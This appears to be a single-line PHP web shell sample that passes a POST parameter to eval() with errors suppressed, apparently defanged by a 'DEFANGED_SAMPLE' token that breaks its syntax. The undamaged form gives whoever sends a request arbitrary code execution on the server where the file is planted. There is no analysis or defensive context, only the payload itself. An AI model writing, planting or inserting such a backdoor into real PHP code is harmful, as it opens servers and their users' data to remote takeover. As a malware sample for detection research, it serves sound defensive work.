<?php @eval($_POST[DEFANGED_SAMPLE 'x']);?>
